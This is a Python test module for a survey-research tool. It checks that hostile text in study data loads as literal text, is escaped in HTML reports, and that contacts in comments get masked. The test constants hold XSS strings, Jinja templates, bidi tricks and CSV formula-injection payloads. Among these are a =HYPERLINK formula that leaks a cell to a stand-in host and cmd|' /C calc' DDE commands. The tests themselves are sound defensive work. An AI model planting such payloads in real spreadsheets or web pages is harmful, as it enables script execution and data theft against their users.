"""Corpus cases: hostile content.

Text from the user's data or codebook (brands, touchpoint labels, profile
categories, column names, the study's name, comments) may hold HTML or
JavaScript, template syntax, spreadsheet formulas, mathtext dollars, invisible
or right-to-left characters, emoji, or be huge. It is data: loaded as the
literal text written, never run, evaluated or rendered as markup; a report
escapes it and masks the contacts in comments (one slow case renders a full
report of a study holding every payload and reads every page).

Note for a future Excel export: the formula cells here (``=HYPERLINK(...)``,
``+cmd|...``, ``@SUM(...)``) load as plain text, but a workbook we write would
need them neutralised (a leading apostrophe) before a spreadsheet opens it.
"""

from __future__ import annotations

import copy
import re
from pathlib import Path

import pandas as pd

from cxresearch import load_study

from . import CODEBOOK, Outcome, case, rows, write

FAMILY = "hostile content"

SCRIPT = "<script>alert(731)</script>"
IMG = "<img src=x onerror=alert(731)>"
JS_URL = "javascript:alert(731)"
JINJA = "{{ 7*7 }} {% for x in range(3) %}{{ x }}{% endfor %}"
TABLE_BREAK = "</td></table><b>broken</b>"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)
DOLLAR_BRAND = "Ca$$h Mart"
BIDI = "North\u202e\u200b\u2066x\u2069"  # right-to-left override, zero-width space, isolate
EMOJI = "Świetnie 👍🏽 👨\u200d👩\u200d👧 Zażółć gęślą jaźń — Съешь же ещё этих булок"
CONTACTS = (  # what a customer might leave in a comment, in several countries' styles
    "jan.kowalski@example.pl",
    "john (at) example (dot) com",
    "ivan＠example.ru",
    "+48 601 234 567",
    "0171/1234567",
    "+7 (495) 123-45-67",
    "0721.234.567",
    "+359 88 123 4567",
    "4111 1111 1111 1111",
    "PL61 1090 1014 0000 0712 1981 2874",
)


def book(**changes) -> dict:
    """A deep copy of the corpus codebook with top-level ``changes``."""
    return {**copy.deepcopy(CODEBOOK), **changes}


def with_comments(comments: list[str], **changes) -> tuple[pd.DataFrame, dict]:
    """The corpus respondents with a ``comment`` column (cycled) declared as text."""
    data = rows().assign(comment=[comments[i % len(comments)] for i in range(40)])
    return data, book(text=[{"column": "comment", "touchpoint": "hotline"}], **changes)


def loaded(folder: Path):
    """The study the case wrote, as ``load_study`` reads it."""
    return load_study(folder / "study.yaml")


def kept(column: str, *values: str, count: int | None = None):
    """An ``accepted`` check: the study is valid with its 40 respondents and
    ``column`` of the loaded frame holds every value exactly as written (and
    ``count`` distinct values, when given)."""

    def check(folder: Path, outcome: Outcome) -> None:
        assert "valid (40 respondents)" in outcome.stdout, outcome.text
        frame = loaded(folder).responses
        found = set(frame[column].dropna().astype(str))
        for value in values:
            assert value in found, (value, sorted(found)[:5])
        if count is not None:
            assert len(found) == count, sorted(found)

    return check


# --- markup and scripts in every place a text can come from --------------------------


@case(
    "hostile-script-in-brand",
    FAMILY,
    "a competitor named <script>...</script> in the brand column",
    accepted=kept("brand", "Acme", SCRIPT, count=2),
)
def script_in_brand(folder):
    data = rows()
    data["brand"] = data["brand"].replace({"Rival": SCRIPT})
    return write(folder, data)


@case(
    "hostile-img-onerror-in-touchpoint-label",
    FAMILY,
    "a touchpoint labelled <img src=x onerror=...> in the codebook",
    accepted=lambda folder, outcome: _label_kept(folder, outcome, IMG),
)
def img_in_label(folder):
    codebook = book()
    codebook["touchpoints"][1]["label"] = IMG
    return write(folder, codebook=codebook)


def _label_kept(folder: Path, outcome: Outcome, label: str) -> None:
    assert "valid (40 respondents)" in outcome.stdout, outcome.text
    labels = [t.label for t in loaded(folder).codebook.touchpoints]
    assert labels == ["Website", label], labels


@case(
    "hostile-javascript-url-in-profile-category",
    FAMILY,
    "a region category that is a javascript: URL, and one that breaks out of a table",
    accepted=kept("region", JS_URL, TABLE_BREAK, "South", count=3),
)
def javascript_category(folder):
    data = rows()
    data["region"] = data["region"].replace({"North": JS_URL, "East": TABLE_BREAK})
    return write(folder, data)


@case(
    "hostile-markup-in-column-name",
    FAMILY,
    "a profile column whose name is HTML that closes the table it is shown in",
    accepted=lambda folder, outcome: _column_kept(folder, outcome, f"region {TABLE_BREAK}"),
)
def markup_column(folder):
    name = f"region {TABLE_BREAK}"
    codebook = book()
    codebook["columns"] = {**codebook["columns"], "profile": [name]}
    return write(folder, rows().rename(columns={"region": name}), codebook)


def _column_kept(folder: Path, outcome: Outcome, name: str) -> None:
    assert "valid (40 respondents)" in outcome.stdout, outcome.text
    study = loaded(folder)
    assert study.codebook.profile == (name,) or list(study.codebook.profile) == [name]
    assert set(study.responses[name].astype(str)) == {"North", "South", "East"}


@case(
    "hostile-template-in-study-name",
    FAMILY,
    "the study's name holds Jinja syntax ({{ 7*7 }}, {% for %}) and a script",
    accepted=lambda folder, outcome: _name_kept(folder, outcome, f"{JINJA} {SCRIPT}"),
)
def template_name(folder):
    return write(folder, name=f"{JINJA} {SCRIPT}")


def _name_kept(folder: Path, outcome: Outcome, name: str) -> None:
    assert f"{name}: valid (40 respondents)" in outcome.stdout, outcome.text
    assert "49" not in outcome.stdout and "012" not in outcome.stdout  # never rendered
    assert loaded(folder).name == name


@case(
    "hostile-markup-and-templates-in-comments",
    FAMILY,
    "comments holding a script, an image with onerror, Jinja and a table break",
    accepted=kept("comment", SCRIPT, IMG, JINJA, TABLE_BREAK, count=4),
)
def markup_comments(folder):
    data, codebook = with_comments([SCRIPT, IMG, JINJA, TABLE_BREAK])
    return write(folder, data, codebook)


# --- spreadsheet formulas --------------------------------------------------------------


@case(
    "hostile-formula-injection-in-text",
    FAMILY,
    "CSV formula injection (=HYPERLINK, +cmd|, @SUM, -2+3) in a profile and a comment",
    accepted=lambda folder, outcome: _formulas_kept(folder, outcome),
)
def formulas(folder):
    data, codebook = with_comments(list(FORMULAS))
    data["region"] = [FORMULAS[i % 3] for i in range(40)]
    return write(folder, data, codebook)


def _formulas_kept(folder: Path, outcome: Outcome) -> None:
    kept("comment", *FORMULAS, count=len(FORMULAS))(folder, outcome)
    kept("region", *FORMULAS[:3], count=3)(folder, outcome)
    comments = loaded(folder).responses["comment"]
    assert "2" not in set(comments) and "1" not in set(comments)  # nothing evaluated


# --- characters that disguise or break text ----------------------------------------------


@case(
    "hostile-dollar-brand",
    FAMILY,
    "the own brand is 'Ca$$h Mart' (matplotlib would read $...$ as mathtext)",
    accepted=kept("brand", DOLLAR_BRAND, "Rival", count=2),
)
def dollar_brand(folder):
    data = rows()
    data["brand"] = data["brand"].replace({"Acme": DOLLAR_BRAND})
    return write(folder, data, brand=DOLLAR_BRAND)


def _invisible_removed(folder: Path, outcome: Outcome) -> None:
    """Category labels lose their invisible controls (they would split a group or
    reverse a report sentence), and the quality record says how many values had them."""
    kept("region", "Northx", "South", "East", count=3)(folder, outcome)
    notes = loaded(folder).quality.notes
    assert any("invisible formatting characters" in n and "region" in n for n in notes), notes


@case(
    "hostile-bidi-and-zero-width",
    FAMILY,
    "a category holding a right-to-left override, a zero-width space and an isolate",
    accepted=_invisible_removed,
)
def bidi(folder):
    data = rows()
    data["region"] = data["region"].replace({"North": BIDI})
    return write(folder, data)


@case(
    "hostile-emoji-and-diacritics",
    FAMILY,
    "emoji (with skin tone and joiners), Polish and Cyrillic letters in brand, region, comment",
    accepted=lambda folder, outcome: _unicode_kept(folder, outcome),
)
def emoji(folder):
    data, codebook = with_comments([EMOJI, "Łódź: obsługa 👎", "Москва: всё хорошо 🙂"])
    data["brand"] = data["brand"].replace({"Acme": "Żabka 🐸", "Rival": "Пятёрочка"})
    data["region"] = data["region"].replace({"North": "Łódź", "South": "Москва"})
    codebook["brand"] = "Żabka 🐸"
    return write(folder, data, codebook)


def _unicode_kept(folder: Path, outcome: Outcome) -> None:
    kept("brand", "Żabka 🐸", "Пятёрочка", count=2)(folder, outcome)
    kept("region", "Łódź", "Москва", "East", count=3)(folder, outcome)
    kept("comment", EMOJI, "Łódź: obsługa 👎", count=3)(folder, outcome)


@case(
    "hostile-nul-byte-in-a-comment",
    FAMILY,
    "a NUL byte inside a comment: the file is refused as not text, in words",
    errors=("responses.csv", "NUL"),
)
def nul_byte(folder):
    data, codebook = with_comments(["fine", "bad \x00 byte"])
    return write(folder, data.to_csv(index=False), codebook)


@case(
    "hostile-megabyte-comment",
    FAMILY,
    "one comment of 1 MB (a paste gone wrong) among ordinary ones",
    accepted=lambda folder, outcome: _long_comment_kept(folder, outcome),
)
def megabyte_comment(folder):
    data, codebook = with_comments(["short and fine"])
    data.loc[7, "comment"] = "Slow delivery, call me. " * 43_691  # 1,048,584 characters
    return write(folder, data, codebook)


def _long_comment_kept(folder: Path, outcome: Outcome) -> None:
    assert "valid (40 respondents)" in outcome.stdout, outcome.text
    lengths = loaded(folder).responses["comment"].str.len()
    assert lengths.max() == 24 * 43_691 and (lengths == 14).sum() == 39


@case(
    "hostile-megabyte-comment-parquet",
    FAMILY,
    "one comment of 1 MB in a Parquet file (no CSV field limit in the way)",
    accepted=lambda folder, outcome: _long_comment_kept(folder, outcome),
)
def megabyte_comment_parquet(folder):
    data, codebook = with_comments(["short and fine"])
    data.loc[7, "comment"] = "Slow delivery, call me. " * 43_691
    folder.mkdir(parents=True, exist_ok=True)
    data.to_parquet(folder / "responses.parquet", index=False)
    return write(folder, codebook={**codebook, "responses": "responses.parquet"})


# --- everything at once, in a rendered report ----------------------------------------------

REPORT_NAME = f"Hostile {JINJA} {SCRIPT}"
RIVAL = IMG
LABEL = f"Hotline {TABLE_BREAK} {SCRIPT}"
REGIONS = (JS_URL, FORMULAS[0], BIDI, "Łódź 🐸")
COLUMN = "region {{ 7*7 }} <i>x</i>"


def report_study(folder: Path) -> list[str]:
    """A small study holding every payload: own brand ``Ca$$h Mart``, a rival
    named by an <img onerror>, a touchpoint label that breaks tables, profile
    categories that are a javascript: URL, a formula and a bidi trick, a profile
    column named with template syntax, and comments with markup and contacts."""
    data = rows(120, seed=5).rename(columns={"region": COLUMN})
    data["brand"] = data["brand"].replace({"Acme": DOLLAR_BRAND, "Rival": RIVAL})
    data[COLUMN] = [REGIONS[i % len(REGIONS)] for i in range(len(data))]
    contacts = ", ".join(CONTACTS)  # every quote shows every format, masked
    comments = [f"{payload} Call me: {contacts}." for payload in (SCRIPT, IMG, JINJA, EMOJI)]
    data["comment"] = [comments[i % len(comments)] for i in range(len(data))]
    codebook = book(
        name=REPORT_NAME,
        brand=DOLLAR_BRAND,
        text=[{"column": "comment", "touchpoint": "hotline"}],
    )
    codebook["columns"] = {**codebook["columns"], "profile": [COLUMN]}
    codebook["touchpoints"][0]["label"] = f"Web $x^2$ _ \\ {JS_URL}"
    codebook["touchpoints"][1]["label"] = LABEL
    write(folder, data, codebook)
    return ["report", "study.yaml", "--out", "out", "--quiet"]


RAW_PAYLOADS = (SCRIPT, IMG, TABLE_BREAK, "<i>x</i>", f'href="{JS_URL}', "href='javascript:")


def report_is_inert(folder: Path, outcome: Outcome) -> None:
    """Every page of the report shows the payloads as text (escaped), renders no
    template, shows no contact from the comments and no absolute path."""
    pages = sorted((folder / "out").rglob("*.html"))
    assert len(pages) >= 2, pages
    index = (folder / "out" / "index.html").read_text(encoding="utf-8")
    assert "Ca$$h Mart" in index  # the brand's charts were drawn (mathtext off)
    assert "{{ 7*7 }}" in index and "&lt;script&gt;alert(731)" in index  # escaped, as text
    masked = {"[phone]": 0, "[e-mail]": 0, "[number]": 0}
    for page in pages:
        html = page.read_text(encoding="utf-8")
        where = page.relative_to(folder)
        for payload in RAW_PAYLOADS:
            assert payload not in html, (where, payload)
        assert not re.search(r"<[^>]*onerror\s*=\s*alert\(731\)", html), where
        assert not re.search(r"<script[^>]*>[^<]*alert\(731\)", html, re.I), where
        assert not re.search(r"Hostile\s+49\b", html), where  # the template never ran
        for contact in CONTACTS:
            assert contact not in html, (where, contact)
        assert str(folder) not in html and str(folder.resolve()) not in html, where
        masked = {token: n + html.count(token) for token, n in masked.items()}
    assert all(masked.values()), masked  # the comments were quoted, masked


case(
    "hostile-everything-in-a-report",
    FAMILY,
    "a full report of a study holding every payload, contacts in its comments",
    accepted=report_is_inert,
    slow=True,
)(report_study)
